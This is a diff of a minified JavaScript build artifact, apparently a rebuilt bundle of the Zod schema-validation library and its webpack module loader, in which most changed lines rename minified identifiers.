+a))},nonnegative(a){return this.check(ve.qm(BigInt(0),a))},multipleOf(a,u){return this.check(ve.Hi(a,u))}}));function V$(a){
+return core._bigint(pC,a)}const Ol=null;function Q$(a){return core._int64(Ol,a)}function X$(a){return core._uint64(Ol,a)}
+const mC=null;function eR(a){return core._symbol(mC,a)}const gC=null;function tR(a){return core._undefined(gC,a)}const CC=null;
+function yC(a){return core._null(CC,a)}const wC=null;function nR(){return core._any(wC)}const bC=s.xI("ZodUnknown",(a,u)=>{
+ls.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>ku(a,f,p,m)});function Ws(){return ve.em(bC)}const _C=s.xI("\
+ZodNever",(a,u)=>{Zt.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>vu(a,f,p,m)});function Al(a){return ve.G8(
+_C,a)}const EC=null;function sR(a){return core._void(EC,a)}const vC=s.xI("ZodDate",(a,u)=>{bn.init(a,u),Dt.init(a,u),a._zod.
+processJSONSchema=(f,p,m)=>Du(a,f,p,m),a.min=(f,p)=>a.check(ve.qm(f,p)),a.max=(f,p)=>a.check(ve.Zm(f,p))},r.un({minDate:a=>{
+const{minimum:u}=ot(a);return u?new Date(u):null},maxDate:a=>{const{maximum:u}=ot(a);return u?new Date(u):null}},{}));function rR(a){
+return core._date(vC,a)}const kC=s.xI("ZodArray",(a,u)=>{yr(),et.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Tu(
 a,f,p,m),a.element=u.element},{min(a,u){return this.check(ve.m9(a,u))},nonempty(a){return this.check(ve.m9(1,a))},max(a,u){
-return this.check(ve.Eb(a,u))},length(a,u){return this.check(ve.YA(a,u))},unwrap(){return this.element}});function bi(a,u){
-return ve.dZ(vC,a,u)}function tR(a){const u=a._zod.def.shape;return Yo(Object.keys(u))}const qo=s.xI("ZodObject",(a,u)=>{
-yr(),ir.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Tu(a,f,p,m),r.X(a,"shape",f=>f._zod.def.shape,!1)},{keyof(){
-return Yo(Object.keys(this._zod.def.shape))},catchall(a){return this.clone(r.zM(this._zod.def,{catchall:a}))},passthrough(){
+return this.check(ve.Eb(a,u))},length(a,u){return this.check(ve.YA(a,u))},unwrap(){return this.element}});function _i(a,u){
+return ve.dZ(kC,a,u)}function iR(a){const u=a._zod.def.shape;return Qo(Object.keys(u))}const Vo=s.xI("ZodObject",(a,u)=>{
+yr(),ir.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Iu(a,f,p,m),r.X(a,"shape",f=>f._zod.def.shape,!1)},{keyof(){
+return Qo(Object.keys(this._zod.def.shape))},catchall(a){return this.clone(r.zM(this._zod.def,{catchall:a}))},passthrough(){
 return this.clone(r.zM(this._zod.def,{catchall:Ws()}))},loose(){return this.clone(r.zM(this._zod.def,{catchall:Ws()}))},
-strict(){return this.clone(r.zM(this._zod.def,{catchall:Ol()}))},strip(){return this.clone(r.zM(this._zod.def,{catchall:void 0}))},
+strict(){return this.clone(r.zM(this._zod.def,{catchall:Al()}))},strip(){return this.clone(r.zM(this._zod.def,{catchall:void 0}))},
 extend(a){return r.X$(this,a)},safeExtend(a){return r.W0(this,a)},merge(a){return r.h1(this,a)},pick(a){return r.Up(this,
-a)},omit(a){return r.cJ(this,a)},partial(...a){return r.OH(Vo,this,a[0])},exactPartial(...a){return r.OH(Il,this,a[0],"e\
-xactPartial")},required(...a){return r.mw($l,this,a[0])}});function kC(a,u){const f={type:"object",shape:a??{},...r.A2(u)};
-return new qo(f)}function DC(a,u){return new qo({type:"object",shape:a,catchall:Ol(),...r.A2(u)})}function xC(a,u){return new qo(
-{type:"object",shape:a,catchall:Ws(),...r.A2(u)})}const OC=s.xI("ZodUnion",(a,u)=>{Kr.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=
-(f,p,m)=>Iu(a,f,p,m),a.options=u.options});function Al(a,u){return new OC({type:"union",options:a,...r.A2(u)})}const AC=null;
-function nR(a,u){return new AC({type:"union",options:a,inclusive:!1,...util.normalizeParams(u)})}const SC=null;function sR(a,u,f){
-return new SC({type:"union",options:u,discriminator:a,...util.normalizeParams(f)})}const TC=s.xI("ZodIntersection",(a,u)=>{
-Vr.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>$u(a,f,p,m)});function IC(a,u){return new TC({type:"intersec\
-tion",left:a,right:u})}const $C=s.xI("ZodTuple",(a,u)=>{yr(),Qr.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Ru(
+a)},omit(a){return r.cJ(this,a)},partial(...a){return r.OH(Xo,this,a[0])},exactPartial(...a){return r.OH($l,this,a[0],"e\
+xactPartial")},required(...a){return r.mw(Rl,this,a[0])}});function DC(a,u){const f={type:"object",shape:a??{},...r.A2(u)};
+return new Vo(f)}function xC(a,u){return new Vo({type:"object",shape:a,catchall:Al(),...r.A2(u)})}function OC(a,u){return new Vo(
+{type:"object",shape:a,catchall:Ws(),...r.A2(u)})}const AC=s.xI("ZodUnion",(a,u)=>{qr.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=
+(f,p,m)=>$u(a,f,p,m),a.options=u.options});function Sl(a,u){return new AC({type:"union",options:a,...r.A2(u)})}const SC=null;
+function oR(a,u){return new SC({type:"union",options:a,inclusive:!1,...util.normalizeParams(u)})}const TC=null;function aR(a,u,f){
+return new TC({type:"union",options:u,discriminator:a,...util.normalizeParams(f)})}const IC=s.xI("ZodIntersection",(a,u)=>{
+Qr.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Ru(a,f,p,m)});function $C(a,u){return new IC({type:"intersec\
+tion",left:a,right:u})}const RC=s.xI("ZodTuple",(a,u)=>{yr(),Xr.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Nu(
 a,f,p,m)},{rest(a){return this.clone({...this._zod.def,rest:a})},partial(){const a=this._zod.def;if(a.checks?.length)throw new Error(
-".partial() cannot be used on tuple schemas containing refinements");return this.clone({...a,items:a.items.map(u=>new Vo(
-{type:"optional",innerType:u}))})}});function RC(a,u,f){const p=u instanceof core.$ZodType,m=p?f:u,w=p?u:null;return new $C(
-{type:"tuple",items:a,rest:w,...util.normalizeParams(m)})}const _i=s.xI("ZodRecord",(a,u)=>{yr(),lr.init(a,u),Dt.init(a,
-u),a._zod.processJSONSchema=(f,p,m)=>Nu(a,f,p,m),a.keyType=u.keyType,a.valueType=u.valueType});function Sl(a,u,f){return!u||
-!u._zod?new _i({type:"record",keyType:wi(),valueType:a,...r.A2(u)}):new _i({type:"record",keyType:a,valueType:u,...r.A2(
-f)})}function NC(a,u,f){return new _i({type:"record",keyType:a,valueType:u,...r.A2(f),partial:!0})}function rR(a,u,f){return new _i(
-{type:"record",keyType:a,valueType:u,mode:"loose",...util.normalizeParams(f)})}const FC=null;function iR(a,u,f){return new FC(
-{type:"map",keyType:a,valueType:u,...util.normalizeParams(f)})}const PC=null;function oR(a,u){return new PC({type:"set",
-valueType:a,...util.normalizeParams(u)})}const Ei=s.xI("ZodEnum",(a,u)=>{P.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=
-(p,m,w)=>Du(a,p,m,w),a.enum=u.entries,a.options=[...a._zod.values];const f=new Set(Object.keys(u.entries));a.extract=(p,m)=>{
-const w={};for(const E of p)if(f.has(E))w[E]=u.entries[E];else throw new Error(`Key ${E} not found in enum`);return new Ei(
+".partial() cannot be used on tuple schemas containing refinements");return this.clone({...a,items:a.items.map(u=>new Xo(
+{type:"optional",innerType:u}))})}});function NC(a,u,f){const p=u instanceof core.$ZodType,m=p?f:u,w=p?u:null;return new RC(
+{type:"tuple",items:a,rest:w,...util.normalizeParams(m)})}const Ei=s.xI("ZodRecord",(a,u)=>{yr(),lr.init(a,u),Dt.init(a,
+u),a._zod.processJSONSchema=(f,p,m)=>Fu(a,f,p,m),a.keyType=u.keyType,a.valueType=u.valueType});function Tl(a,u,f){return!u||
+!u._zod?new Ei({type:"record",keyType:bi(),valueType:a,...r.A2(u)}):new Ei({type:"record",keyType:a,valueType:u,...r.A2(
+f)})}function FC(a,u,f){return new Ei({type:"record",keyType:a,valueType:u,...r.A2(f),partial:!0})}function cR(a,u,f){return new Ei(
+{type:"record",keyType:a,valueType:u,mode:"loose",...util.normalizeParams(f)})}const PC=null;function uR(a,u,f){return new PC(
+{type:"map",keyType:a,valueType:u,...util.normalizeParams(f)})}const LC=null;function lR(a,u){return new LC({type:"set",
+valueType:a,...util.normalizeParams(u)})}const vi=s.xI("ZodEnum",(a,u)=>{P.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=
+(p,m,w)=>xu(a,p,m,w),a.enum=u.entries,a.options=[...a._zod.values];const f=new Set(Object.keys(u.entries));a.extract=(p,m)=>{
+const w={};for(const E of p)if(f.has(E))w[E]=u.entries[E];else throw new Error(`Key ${E} not found in enum`);return new vi(
 {...u,checks:[],...r.A2(m),entries:w})},a.exclude=(p,m)=>{const w={...u.entries};for(const E of p)if(f.has(E))delete w[E];else
-throw new Error(`Key ${E} not found in enum`);return new Ei({...u,checks:[],...r.A2(m),entries:w})}});function Yo(a,u){const f=Array.
-isArray(a)?Object.fromEntries(a.map(p=>[p,p])):a;return new Ei({type:"enum",entries:f,...r.A2(u)})}function aR(a,u){return new Ei(
-{type:"enum",entries:a,...util.normalizeParams(u)})}const LC=s.xI("ZodLiteral",(a,u)=>{Oe.init(a,u),Dt.init(a,u),a._zod.
-processJSONSchema=(f,p,m)=>xu(a,f,p,m),a.values=new Set(u.values),Object.defineProperty(a,"value",{get(){if(u.values.length>
+throw new Error(`Key ${E} not found in enum`);return new vi({...u,checks:[],...r.A2(m),entries:w})}});function Qo(a,u){const f=Array.
+isArray(a)?Object.fromEntries(a.map(p=>[p,p])):a;return new vi({type:"enum",entries:f,...r.A2(u)})}function dR(a,u){return new vi(
+{type:"enum",entries:a,...util.normalizeParams(u)})}const jC=s.xI("ZodLiteral",(a,u)=>{Oe.init(a,u),Dt.init(a,u),a._zod.
+processJSONSchema=(f,p,m)=>Ou(a,f,p,m),a.values=new Set(u.values),Object.defineProperty(a,"value",{get(){if(u.values.length>
 1)throw new Error("This schema contains multiple valid literal values. Use `.values` instead.");return u.values[0]}})});
-function jC(a,u){return new LC({type:"literal",values:Array.isArray(a)?a:[a],...r.A2(u)})}const MC=null;function cR(a){return core.
-_file(MC,a)}const GC=s.xI("ZodTransform",(a,u)=>{yr(),$t.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Au(a,f,
+function MC(a,u){return new jC({type:"literal",values:Array.isArray(a)?a:[a],...r.A2(u)})}const GC=null;function BR(a){return core.
+_file(GC,a)}const HC=s.xI("ZodTransform",(a,u)=>{yr(),$t.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Su(a,f,
 p,m),a._zod.parse=(f,p)=>{if(p.direction==="backward")throw new s.cV(a.constructor.name);f.addIssue=w=>{if(typeof w=="st\
 ring")f.issues.push(r.sn(w,f.value,u));else{const E=w;E.fatal&&(E.continue=!1),E.code??(E.code="custom"),"input"in E||(E.
 input=f.value),E.inst??(E.inst=a),f.issues.push(r.sn(E))}};const m=u.transform(f.value,f);return m instanceof Promise?m.
-then(w=>(f.value=w,f)):(f.value=m,f)}});function Tl(a){return new GC({type:"transform",transform:a})}const Vo=s.xI("ZodO\
-ptional",(a,u)=>{Qt.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Jo(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});
-function Qo(a){return new Vo({type:"optional",innerType:a})}const Il=s.xI("ZodExactOptional",(a,u)=>{ts.init(a,u),Dt.init(
-a,u),a._zod.processJSONSchema=(f,p,m)=>Jo(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function HC(a){return new Il({type:"\
-optional",innerType:a})}const zC=s.xI("ZodNullable",(a,u)=>{_n.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Fu(
-a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function Xo(a){return new zC({type:"nullable",innerType:a})}function uR(a){
-return Qo(Xo(a))}const UC=s.xI("ZodDefault",(a,u)=>{Jn.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>ju(a,f,p,
-m),a.unwrap=()=>a._zod.def.innerType,a.removeDefault=a.unwrap});function JC(a,u){return new UC({type:"default",innerType:a,
-get defaultValue(){return typeof u=="function"?u():r.yG(u)}})}const ZC=s.xI("ZodPrefault",(a,u)=>{Zn.init(a,u),Dt.init(a,
-u),a._zod.processJSONSchema=(f,p,m)=>Mu(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function WC(a,u){return new ZC({type:"\
-prefault",innerType:a,get defaultValue(){return typeof u=="function"?u():r.yG(u)}})}const $l=s.xI("ZodNonOptional",(a,u)=>{
-Tn.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Pu(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function KC(a,u){
-return new $l({type:"nonoptional",innerType:a,...r.A2(u)})}const qC=null;function lR(a){return new qC({type:"success",innerType:a})}
-const YC=s.xI("ZodCatch",(a,u)=>{ns.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Gu(a,f,p,m),a.unwrap=()=>a.
-_zod.def.innerType,a.removeCatch=a.unwrap});function VC(a,u){return new YC({type:"catch",innerType:a,catchValue:typeof u==
-"function"?u:r.SS(u)})}const QC=null;function dR(a){return core._nan(QC,a)}const XC=s.xI("ZodPipe",(a,u)=>{yu.init(a,u),
-Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Hu(a,f,p,m),a.in=u.in,a.out=u.out});function Rl(a,u){return new XC({type:"\
-pipe",in:a,out:u})}const ea=null;function BR(a,u,f){return new ea({type:"pipe",in:a,out:u,transform:f.decode,reverseTransform:f.
-encode})}function fR(a){const u=a._zod.def;return new ea({type:"pipe",in:u.out,out:u.in,transform:u.reverseTransform,reverseTransform:u.
-transform})}const ey=null,ty=s.xI("ZodReadonly",(a,u)=>{Ro.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>zu(a,
-f,p,m),a.unwrap=()=>a._zod.def.innerType});function ny(a){return new ty({type:"readonly",innerType:a})}const sy=null;function hR(a,u){
-return new sy({type:"template_literal",parts:a,...util.normalizeParams(u)})}const ry=null;function iy(a){return new ry({
-type:"lazy",getter:a})}const oy=null;function pR(a){return new oy({type:"promise",innerType:a})}const ay=null;function mR(a){
-return new ay({type:"function",input:Array.isArray(a?.input)?RC(a?.input):a?.input??bi(Ws()),output:a?.output??Ws()})}const ta=s.
-xI("ZodCustom",(a,u)=>{ii.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Ou(a,f,p,m)});function gR(a){const u=new core.
-$ZodCheck({check:"custom"});return u._zod.check=a,u}function CR(a,u){return core._custom(ta,a??(()=>!0),u)}function cy(a,u={}){
-return ve.fU(ta,a,u)}function uy(a,u){return ve.MB(a,u)}const yR=ve.q0,wR=ve.mI,ly=s.xI("ZodInstanceOf",(a,u)=>{ta.init(
-a,u)},{properties(a,u){return this.check(ve.T2(a,u))}});function bR(a,u={}){const f=new ly({type:"custom",check:"custom",
+then(w=>(f.value=w,f)):(f.value=m,f)}});function Il(a){return new HC({type:"transform",transform:a})}const Xo=s.xI("ZodO\
+ptional",(a,u)=>{Qt.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Wo(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});
+function ea(a){return new Xo({type:"optional",innerType:a})}const $l=s.xI("ZodExactOptional",(a,u)=>{ts.init(a,u),Dt.init(
+a,u),a._zod.processJSONSchema=(f,p,m)=>Wo(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function zC(a){return new $l({type:"\
+optional",innerType:a})}const UC=s.xI("ZodNullable",(a,u)=>{_n.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Pu(
+a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function ta(a){return new UC({type:"nullable",innerType:a})}function fR(a){
+return ea(ta(a))}const JC=s.xI("ZodDefault",(a,u)=>{Jn.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Mu(a,f,p,
+m),a.unwrap=()=>a._zod.def.innerType,a.removeDefault=a.unwrap});function ZC(a,u){return new JC({type:"default",innerType:a,
+get defaultValue(){return typeof u=="function"?u():r.yG(u)}})}const WC=s.xI("ZodPrefault",(a,u)=>{Zn.init(a,u),Dt.init(a,
+u),a._zod.processJSONSchema=(f,p,m)=>Gu(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function KC(a,u){return new WC({type:"\
+prefault",innerType:a,get defaultValue(){return typeof u=="function"?u():r.yG(u)}})}const Rl=s.xI("ZodNonOptional",(a,u)=>{
+Tn.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Lu(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function qC(a,u){
+return new Rl({type:"nonoptional",innerType:a,...r.A2(u)})}const YC=null;function hR(a){return new YC({type:"success",innerType:a})}
+const VC=s.xI("ZodCatch",(a,u)=>{ns.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Hu(a,f,p,m),a.unwrap=()=>a.
+_zod.def.innerType,a.removeCatch=a.unwrap});function QC(a,u){return new VC({type:"catch",innerType:a,catchValue:typeof u==
+"function"?u:r.SS(u)})}const XC=null;function pR(a){return core._nan(XC,a)}const ey=s.xI("ZodPipe",(a,u)=>{wu.init(a,u),
+Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>zu(a,f,p,m),a.in=u.in,a.out=u.out});function Nl(a,u){return new ey({type:"\
+pipe",in:a,out:u})}const na=null;function mR(a,u,f){return new na({type:"pipe",in:a,out:u,transform:f.decode,reverseTransform:f.
+encode})}function gR(a){const u=a._zod.def;return new na({type:"pipe",in:u.out,out:u.in,transform:u.reverseTransform,reverseTransform:u.
+transform})}const ty=null,ny=s.xI("ZodReadonly",(a,u)=>{Fo.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Uu(a,
+f,p,m),a.unwrap=()=>a._zod.def.innerType});function sy(a){return new ny({type:"readonly",innerType:a})}const ry=null;function CR(a,u){
+return new ry({type:"template_literal",parts:a,...util.normalizeParams(u)})}const iy=null;function oy(a){return new iy({
+type:"lazy",getter:a})}const ay=null;function yR(a){return new ay({type:"promise",innerType:a})}const cy=null;function wR(a){
+return new cy({type:"function",input:Array.isArray(a?.input)?NC(a?.input):a?.input??_i(Ws()),output:a?.output??Ws()})}const sa=s.
+xI("ZodCustom",(a,u)=>{oi.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Au(a,f,p,m)});function bR(a){const u=new core.
+$ZodCheck({check:"custom"});return u._zod.check=a,u}function _R(a,u){return core._custom(sa,a??(()=>!0),u)}function uy(a,u={}){
+return ve.fU(sa,a,u)}function ly(a,u){return ve.MB(a,u)}const ER=ve.q0,vR=ve.mI,dy=s.xI("ZodInstanceOf",(a,u)=>{sa.init(
+a,u)},{properties(a,u){return this.check(ve.T2(a,u))}});function kR(a,u={}){const f=new dy({type:"custom",check:"custom",
 fn:p=>p instanceof a,abort:!0,...util.normalizeParams(u)});return f._zod.bag.Class=a,f._zod.check=p=>{p.value instanceof
-a||p.issues.push({code:"invalid_type",expected:a.name,input:p.value,inst:f,path:[...f._zod.def.path??[]]})},f}const _R=(...a)=>core.
-_stringbool({Codec:ea,Boolean:kl,String:rl},...a);function ER(a){const u=iy(()=>Al([wi(a),vl(),Dl(),CC(),bi(u),Sl(wi(),u)]));
-return u}function vR(a,u){return new ey({type:"pipe",in:Tl(a),out:u})}},759:function(n,e,t){t.d(e,{$O:()=>S,$S:()=>rr,Au:()=>ye,
+a||p.issues.push({code:"invalid_type",expected:a.name,input:p.value,inst:f,path:[...f._zod.def.path??[]]})},f}const DR=(...a)=>core.
+_stringbool({Codec:na,Boolean:Dl,String:il},...a);function xR(a){const u=oy(()=>Sl([bi(a),kl(),xl(),yC(),_i(u),Tl(bi(),u)]));
+return u}function OR(a,u){return new ty({type:"pipe",in:Il(a),out:u})}},759:function(n,e,t){t.d(e,{$O:()=>S,$S:()=>rr,Au:()=>ye,
 Be:()=>h,Bj:()=>D,Ct:()=>R,Dl:()=>v,ER:()=>es,Eb:()=>wt,F7:()=>Fe,Fk:()=>Cn,Fn:()=>_,G1:()=>pe,G8:()=>bt,Hi:()=>Bt,Il:()=>Vt,
 KB:()=>ke,Kn:()=>Ie,LK:()=>fe,MB:()=>zs,Mu:()=>B,Ny:()=>Q,Pw:()=>z,Rl:()=>c,T2:()=>Sn,TL:()=>ls,Tx:()=>Pe,Uy:()=>K,WN:()=>zn,
 YA:()=>Hn,Zm:()=>me,_L:()=>de,_z:()=>L,aC:()=>k,bS:()=>wn,cU:()=>Be,dR:()=>Ls,dZ:()=>Zt,db:()=>te,em:()=>Ce,f2:()=>je,fU:()=>Hs,
@@ -2706,13 +2706,13 @@ const nt=Array.isArray(P)?Object.fromEntries(P.map($t=>[$t,$t])):P;return new $(
 Oe)})}function Ft($,P,Oe){return new $({type:"enum",entries:P,...util.normalizeParams(Oe)})}function Mt($,P,Oe){return new $(
 {type:"literal",values:Array.isArray(P)?P:[P],...util.normalizeParams(Oe)})}function Un($,P){return new $({type:"file",...util.
 normalizeParams(P)})}function Gs($,P){return new $({type:"transform",transform:P})}function ir($,P){return new $({type:"\
-optional",innerType:P})}function or($,P){return new $({type:"nullable",innerType:P})}function Kr($,P,Oe){return new $({type:"\
-default",innerType:P,get defaultValue(){return typeof Oe=="function"?Oe():util.shallowClone(Oe)}})}function qr($,P,Oe){return new $(
+optional",innerType:P})}function or($,P){return new $({type:"nullable",innerType:P})}function qr($,P,Oe){return new $({type:"\
+default",innerType:P,get defaultValue(){return typeof Oe=="function"?Oe():util.shallowClone(Oe)}})}function Yr($,P,Oe){return new $(
 {type:"nonoptional",innerType:P,...util.normalizeParams(Oe)})}function ar($,P){return new $({type:"success",innerType:P})}
-function Yr($,P,Oe){return new $({type:"catch",innerType:P,catchValue:typeof Oe=="function"?Oe:util.constantCatch(Oe)})}
-function cr($,P,Oe){return new $({type:"pipe",in:P,out:Oe})}function Io($,P){return new $({type:"readonly",innerType:P})}
-function Vr($,P,Oe){return new $({type:"template_literal",parts:P,...util.normalizeParams(Oe)})}function Bs($,P){return new $(
-{type:"lazy",getter:P})}function ur($,P){return new $({type:"promise",innerType:P})}function Qr($,P,Oe){const nt=util.normalizeParams(
+function Vr($,P,Oe){return new $({type:"catch",innerType:P,catchValue:typeof Oe=="function"?Oe:util.constantCatch(Oe)})}
+function cr($,P,Oe){return new $({type:"pipe",in:P,out:Oe})}function Ro($,P){return new $({type:"readonly",innerType:P})}
+function Qr($,P,Oe){return new $({type:"template_literal",parts:P,...util.normalizeParams(Oe)})}function Bs($,P){return new $(
+{type:"lazy",getter:P})}function ur($,P){return new $({type:"promise",innerType:P})}function Xr($,P,Oe){const nt=util.normalizeParams(
 Oe);return nt.abort??(nt.abort=!0),new $({type:"custom",check:"custom",fn:P,...nt})}function Hs($,P,Oe){return new $({type:"\
 custom",check:"custom",fn:P,...i.A2(Oe)})}function zs($,P){const Oe=fs(nt=>(nt.addIssue=$t=>{if(typeof $t=="string")nt.issues.
 push(i.sn($t,nt.value,Oe._zod.def));else{const lt=$t;lt.fatal&&(lt.continue=!1),lt.code??(lt.code="custom"),"input"in lt||
@@ -2720,7 +2720,7 @@ push(i.sn($t,nt.value,Oe._zod.def));else{const lt=$t;lt.fatal&&(lt.continue=!1),
 value,nt)),P);return Oe}function fs($,P){const Oe=new s.QP({check:"custom",...i.A2(P)});return Oe._zod.check=$,Oe}function lr($){
 const P=new s.QP({check:"describe"});return P._zod.onattach=[Oe=>{const nt=r.fd.get(Oe)??{};r.fd.add(Oe,{...nt,description:$})}],
 P._zod.check=()=>{},P}function dr($){const P=new s.QP({check:"meta"});return P._zod.onattach=[Oe=>{const nt=r.fd.get(Oe)??
-{};r.fd.add(Oe,{...nt,...$})}],P._zod.check=()=>{},P}function Xr($,P){const Oe=util.normalizeParams(P);let nt=Oe.truthy??
+{};r.fd.add(Oe,{...nt,...$})}],P._zod.check=()=>{},P}function ei($,P){const Oe=util.normalizeParams(P);let nt=Oe.truthy??
 ["true","1","yes","on","y","enabled"],$t=Oe.falsy??["false","0","no","off","n","disabled"];Oe.case!=="sensitive"&&(nt=nt.
 map(Gt=>typeof Gt=="string"?Gt.toLowerCase():Gt),$t=$t.map(Gt=>typeof Gt=="string"?Gt.toLowerCase():Gt));const lt=new Set(
 nt),Qt=new Set($t),ts=$.Codec??schemas.$ZodCodec,_n=$.Boolean??schemas.$ZodBoolean,Jn=$.String??schemas.$ZodString,Us=new Jn(
@@ -2728,7 +2728,7 @@ nt),Qt=new Set($t),ts=$.Codec??schemas.$ZodCodec,_n=$.Boolean??schemas.$ZodBoole
 let In=Gt;return Oe.case!=="sensitive"&&(In=In.toLowerCase()),lt.has(In)?!0:Qt.has(In)?!1:(hs.issues.push({code:"invalid\
 _value",expected:"stringbool",values:[...lt,...Qt],input:hs.value,inst:Tn,continue:!1}),{})}),reverseTransform:((Gt,hs)=>Gt===
 !0?nt[0]||"true":$t[0]||"false"),error:Oe.error});return Tn._zod.bag.truthy=nt,Tn._zod.bag.falsy=$t,Tn._zod.bag.case=Oe.
-case??"insensitive",Tn}function ei($,P,Oe,nt={}){const $t=util.normalizeParams(nt),lt={check:"string_format",type:"strin\
+case??"insensitive",Tn}function ti($,P,Oe,nt={}){const $t=util.normalizeParams(nt),lt={check:"string_format",type:"strin\
 g",format:P,fn:typeof Oe=="function"?Oe:ts=>Oe.test(ts),...$t};return Oe instanceof RegExp&&(lt.pattern=Oe),new $(lt)}},
 890:function(n,e,t){t.d(e,{DG:()=>L,E6:()=>W,J:()=>K,J_:()=>h,Jk:()=>g,KH:()=>C,Kk:()=>D,NI:()=>Q,QP:()=>o,RM:()=>R,Tt:()=>Z,
 Yk:()=>O,kH:()=>S,nJ:()=>ke,ql:()=>z,sm:()=>d,v$:()=>V});var s=t(532),r=t(908),i=t(723);const o=s.xI("$ZodCheck",(Y,U)=>{
@@ -2938,124 +2938,124 @@ writable:!0,value:et}),Vt=Vt||Je,et}catch(et){throw delete this[F],Vt=Vt||Je,et}
 configurable:!0,writable:!0,value:Je})}})}function Zt(A,F,X,ue){const Je=js(A,F);Je&&Object.defineProperty(Je,F,{configurable:!0,
 get(){const et={configurable:!0,writable:!0,enumerable:ue,value:void 0};return Object.defineProperty(this,F,et),et.value=
 X(this),Object.defineProperty(this,F,et),et.value},set(et){Object.defineProperty(this,F,{configurable:!0,writable:!0,enumerable:ue,
-value:et})}})}const ds="~constantCatch";function bn(A){const F=()=>A;return F[ds]=!0,F}}},ra={};function at(n){var e=ra[n];
-if(e!==void 0)return e.exports;var t=ra[n]={exports:{}},s=!0;try{Pl[n](t,t.exports,at),s=!1}finally{s&&delete ra[n]}return t.
-exports}at.m=Pl,typeof at<"u"&&(at.ab=decodeURIComponent(new URL(".",import.meta.url).pathname).slice(import.meta.url.match(
+value:et})}})}const ds="~constantCatch";function bn(A){const F=()=>A;return F[ds]=!0,F}}},oa={};function at(n){var e=oa[n];
+if(e!==void 0)return e.exports;var t=oa[n]={exports:{}},s=!0;try{Ll[n](t,t.exports,at),s=!1}finally{s&&delete oa[n]}return t.
+exports}at.m=Ll,typeof at<"u"&&(at.ab=decodeURIComponent(new URL(".",import.meta.url).pathname).slice(import.meta.url.match(
 /^file:\/\/\/\w:/)?1:0,-1)+"/"),at.d=(n,e)=>{for(var t in e)at.o(e,t)&&!at.o(n,t)&&Object.defineProperty(n,t,{enumerable:!0,
 get:e[t]})},at.f={},at.e=n=>Promise.all(Object.keys(at.f).reduce((e,t)=>(at.f[t](n,e),e),[])),at.u=n=>""+n+".index.js",at.
 o=(n,e)=>Object.prototype.hasOwnProperty.call(n,e),(()=>{var n={792:0},e=t=>{var{ids:s,modules:r,runtime:i}=t,o,c,l=0;for(o in r)
 at.o(r,o)&&(at.m[o]=r[o]);for(i&&i(at);l<s.length;l++)c=s[l],at.o(n,c)&&n[c]&&n[c][0](),n[s[l]]=0};at.f.j=(t,s)=>{var r=at.
 o(n,t)?n[t]:void 0;if(r!==0)if(r)s.push(r[1]);else{var i=import("./"+at.u(t)).then(e,o=>{throw n[t]!==0&&(n[t]=void 0),o}),
-i=Promise.race([i,new Promise(o=>r=n[t]=[o])]);s.push(r[1]=i)}}})();var ln={};at.d(ln,{Ht:()=>I1,aB:()=>y1,x:()=>k1,dj:()=>b1,
-_U:()=>v1,Ae:()=>_1,lq:()=>O1,hI:()=>w1,q:()=>A1,Gj:()=>x1,qW:()=>T1,zD:()=>E1});const ia=sn(import.meta.url)("node:cryp\
-to"),Ll="1.13.0";function Ks(n){return n==null?"null":typeof n=="boolean"?n?"true":"false":typeof n=="number"?Number.isFinite(
+i=Promise.race([i,new Promise(o=>r=n[t]=[o])]);s.push(r[1]=i)}}})();var ln={};at.d(ln,{Ht:()=>F1,aB:()=>E1,x:()=>A1,dj:()=>k1,
+_U:()=>O1,Ae:()=>D1,lq:()=>I1,hI:()=>v1,q:()=>$1,Gj:()=>T1,qW:()=>N1,zD:()=>x1});const aa=sn(import.meta.url)("node:cryp\
+to"),jl="1.13.0";function Ks(n){return n==null?"null":typeof n=="boolean"?n?"true":"false":typeof n=="number"?Number.isFinite(
